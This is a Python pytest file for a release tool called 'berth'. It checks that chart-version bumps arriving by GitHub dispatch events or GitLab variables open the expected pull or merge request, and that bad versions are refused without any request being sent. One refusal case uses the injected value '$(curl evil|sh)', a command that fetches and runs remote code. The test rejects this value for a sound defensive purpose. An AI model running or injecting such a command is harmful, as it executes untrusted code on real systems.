"""A chart app's version released from another repository (docs/releases.md, "A chart's release
pipeline"): the `version` of a `repository_dispatch` `client_payload` or `workflow_dispatch`
`inputs` (`berth bump --event`), or of the GitLab pipeline's `version` input (`BERTH_VERSION`,
`berth bump --from-variables`), against the fake GitHub and GitLab on 127.0.0.1.

The repository is the golden edit case `bump-chart-version` (checkout's `cache` on chart redis,
19.2.0 in dev; platform.yaml allows "18.6.1" and ">=19.0.0 <20.0.0") with the image app
payments/api beside it. A version opens the same pull request as `berth bump --version`; a
version for an image app, a version with a tag or digest, a version the allow-list refuses and
a version that is no version are refused before anything is sent.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.support.cases import lay_over
from tests.support.fake_github import FakeGitHub
from tests.support.fake_gitlab import FakeGitLab
from tests.support.jobs import github_job, gitlab_job
from tests.support.repo import (
    PAYMENTS_API,
    PAYMENTS_API_FILE,
    berth,
    commit_all,
    git,
    make_repo,
    tree,
    write,
)
from tests.test_release import bump, dispatch

CASE = Path(__file__).parent / "cases" / "edits" / "bump-chart-version"
CACHE_FILE = "tenants/checkout/apps/cache.yaml"
BRANCH = "berth/bump/checkout-cache-dev"
CACHE = {"tenant": "checkout", "app": "cache", "environment": "dev"}


@pytest.fixture
def chart_checkout(tmp_path: Path) -> Path:
    """tmp/checkout: the case's platform.yaml and checkout/cache, payments/api, rendered and
    committed as `base` on `main`."""
    root = make_repo(tmp_path / "checkout", commit=False)
    lay_over(CASE, root)
    write(root, {PAYMENTS_API_FILE: PAYMENTS_API})
    code, out, err = berth(root, "render")
    assert code == 0, out + err
    commit_all(root)
    return root


@pytest.fixture
def github(github: FakeGitHub, chart_checkout: Path, monkeypatch: pytest.MonkeyPatch) -> FakeGitHub:
    """The release workflow's job, on the fake GitHub whose default branch is the checkout."""
    monkeypatch.setenv("GITHUB_REF_NAME", github.default_branch)
    return github_job(github, monkeypatch, chart_checkout)


def test_a_dispatched_version_opens_the_pull_request_berth_bump_version_opens(
    chart_checkout: Path, github: FakeGitHub, tmp_path: Path
) -> None:
    code, out, err = bump(chart_checkout, dispatch(tmp_path, version="19.3.0", **CACHE))

    assert (code, err) == (0, ""), out
    [pull] = github.open_pulls(BRANCH)
    assert pull["title"] == "berth: bump checkout/cache to chart redis 19.3.0 in dev"
    assert pull["body"].startswith(
        "Releases chart `redis` `19.3.0` of `checkout/cache` in `dev` (was `19.2.0`)."
    )
    # The plan names the release, and the one generated object it changes.
    assert "`checkout/cache: 19.2.0 -> 19.3.0 in dev`" in pull["body"]
    assert "Application/checkout-cache-dev" in pull["body"]
    files = github.git.files(BRANCH)
    # The one edit of the golden case: that scalar, every other byte kept.
    assert files[CACHE_FILE] == (CASE / "expected" / CACHE_FILE).read_bytes()
    changed = {p for p, d in files.items() if github.git.files("master").get(p) != d}
    assert changed == {CACHE_FILE, "environments/dev/tenants/checkout/argocd.yaml"}
    assert b'targetRevision: "19.3.0"' in files["environments/dev/tenants/checkout/argocd.yaml"]

    # The command line makes the same proposal: same pull request, text and files.
    git(chart_checkout, "checkout", "-q", "--", ".")
    code, out, err = berth(chart_checkout, "bump", "checkout/cache", "--env", "dev", "--version",
                           "19.3.0")  # fmt: skip
    assert (code, err) == (0, ""), out
    [again] = github.open_pulls(BRANCH)
    assert (again["number"], again["title"], again["body"]) == (
        pull["number"],
        pull["title"],
        pull["body"],
    )
    assert github.git.files(BRANCH) == files

    # workflow_dispatch's inputs: a newer version replaces it on the same pull request.
    code, out, err = bump(chart_checkout, dispatch(tmp_path, "workflow", version="19.4.0", **CACHE))
    assert (code, err) == (0, ""), out
    [newer] = github.open_pulls(BRANCH)
    assert newer["number"] == pull["number"] and newer["title"].endswith("19.4.0 in dev")
    assert b'dev: {version: "19.4.0"}' in github.git.files(BRANCH)[CACHE_FILE]

    # The version main runs already: the outdated pull request is closed, nothing written.
    code, out, _ = bump(chart_checkout, dispatch(tmp_path, version="19.2.0", **CACHE))
    assert code == 0 and "has this release already" in out
    assert github.open_pulls(BRANCH) == []


REFUSED: list[tuple[str, str, dict[str, Any], str]] = [
    (
        "version for an image app",
        "repository",
        {"tenant": "payments", "app": "api", "environment": "dev", "version": "1.5.0"},
        "<arguments>:1:1: version: payments/api is not a chart app: give its image with --tag"
        " or --digest",
    ),
    (
        "version with a tag",
        "repository",
        CACHE | {"version": "19.3.0", "tag": "19.3.0"},
        "{event}:1:1: client_payload.version: a chart app's version is given alone: remove"
        " client_payload.tag (they release an image)",
    ),
    (
        "version with tag and digest",
        "workflow",
        CACHE | {"version": "19.3.0", "tag": "1.0.0", "digest": "sha256:" + "ab" * 32},
        "{event}:1:1: inputs.version: a chart app's version is given alone: remove inputs.tag"
        " and inputs.digest (they release an image)",
    ),
    (
        "version outside the allow-list",
        "repository",
        CACHE | {"version": "20.0.0"},
        f"{CACHE_FILE}:12:20: spec.environments.dev.version: '20.0.0' is not a version"
        " platform.yaml allows for chart 'redis': '18.6.1', '>=19.0.0 <20.0.0'",
    ),
    (
        "command substitution",
        "workflow",
        CACHE | {"version": "$(curl evil|sh)"},
        "<arguments>:1:1: version: '$(curl evil|sh)' is not a chart version: give a semantic"
        " version such as 1.2.3",
    ),
    (
        "not a semantic version",
        "repository",
        CACHE | {"version": "19.3"},
        "<arguments>:1:1: version: '19.3' is not a chart version: give a semantic version such"
        " as 1.2.3",
    ),
    (
        "not text",
        "repository",
        CACHE | {"version": 19},
        "{event}:1:1: client_payload.version: must be text of at most 256",
    ),
    (
        "a tag for a chart app",
        "repository",
        CACHE | {"tag": "19.3.0"},
        "<arguments>:1:1: app: checkout/cache is a chart app: give its chart version with"
        " --version",
    ),
]


@pytest.mark.parametrize(("kind", "values", "problem"), [r[1:] for r in REFUSED],
                         ids=[r[0] for r in REFUSED])  # fmt: skip
def test_a_refused_version_sends_and_writes_nothing(
    chart_checkout: Path,
    github: FakeGitHub,
    tmp_path: Path,
    kind: str,
    values: dict[str, Any],
    problem: str,
) -> None:
    event = dispatch(tmp_path, kind, **values)
    before = tree(chart_checkout)
    start = len(github.requests)

    code, out, err = bump(chart_checkout, event)

    assert code == 1, out + err
    assert err.splitlines()[0] == problem.format(event=event)
    assert github.requests[start:] == []
    assert tree(chart_checkout) == before


def _variables(monkeypatch: pytest.MonkeyPatch, **values: str) -> None:
    """The BERTH_* variables the GitLab `bump` job gets from the pipeline's inputs."""
    for name, value in {"tenant": "checkout", "app": "cache", "environment": "dev"}.items():
        monkeypatch.setenv(f"BERTH_{name.upper()}", value)
    for name, value in values.items():
        monkeypatch.setenv(f"BERTH_{name.upper()}", value)


def test_the_gitlab_version_input_opens_one_merge_request(
    chart_checkout: Path, gitlab: FakeGitLab, monkeypatch: pytest.MonkeyPatch
) -> None:
    gitlab_job(gitlab, monkeypatch, chart_checkout)
    _variables(monkeypatch, version="19.3.0", tag="", digest="")  # empty inputs: not given

    code, out, err = berth(chart_checkout, "bump", "--from-variables", "--into", "master")

    assert (code, err) == (0, ""), out
    [request] = gitlab.open_merge_requests(BRANCH)
    assert request["title"] == "berth: bump checkout/cache to chart redis 19.3.0 in dev"
    files = gitlab.git.files(BRANCH)
    assert files[CACHE_FILE] == (CASE / "expected" / CACHE_FILE).read_bytes()


@pytest.mark.parametrize(
    ("values", "problem"),
    [
        (
            {"version": "19.3.0", "digest": "sha256:" + "ab" * 32},
            "<variables>:1:1: BERTH_VERSION: a chart app's version is given alone: remove"
            " BERTH_DIGEST (they release an image)",
        ),
        (
            {"version": "20.0.0"},
            f"{CACHE_FILE}:12:20: spec.environments.dev.version: '20.0.0' is not a version"
            " platform.yaml allows for chart 'redis': '18.6.1', '>=19.0.0 <20.0.0'",
        ),
        (
            {"version": "1.5.0", "app": "api", "tenant": "payments"},
            "<arguments>:1:1: version: payments/api is not a chart app: give its image with"
            " --tag or --digest",
        ),
    ],
    ids=["version with a digest", "version outside the allow-list", "version for an image app"],
)
def test_a_refused_gitlab_version_input_opens_nothing(
    chart_checkout: Path,
    gitlab: FakeGitLab,
    monkeypatch: pytest.MonkeyPatch,
    values: dict[str, str],
    problem: str,
) -> None:
    gitlab_job(gitlab, monkeypatch, chart_checkout)
    _variables(monkeypatch, **values)
    before = tree(chart_checkout)
    start = len(gitlab.requests)

    code, out, err = berth(chart_checkout, "bump", "--from-variables", "--into", "master")

    assert code == 1, out + err
    assert err.splitlines()[0] == problem
    assert gitlab.requests[start:] == []
    assert tree(chart_checkout) == before
